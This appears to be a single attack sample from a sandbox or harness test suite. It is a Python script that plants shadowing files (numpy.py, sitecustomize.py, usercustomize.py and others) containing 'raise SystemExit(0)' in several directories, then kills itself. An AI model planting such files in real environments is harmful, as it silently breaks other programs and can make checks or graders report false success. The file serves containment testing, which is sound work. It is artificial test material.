# /// attack
# name = "a file that shadows"
# threat = "shadowed modules"
# tries = "Writes numpy.py where Python might look first."
# walls = true
# ///

from pathlib import Path

for place in (".", "/tmp", "/kit/side", "/kit/library", "/packages"):
    for name in ("numpy.py", "wire.py", "sitecustomize.py", "usercustomize.py"):
        try:
            Path(place, name).write_text("raise SystemExit(0)")
        except OSError:
            pass
import os

os.kill(os.getpid(), 9)
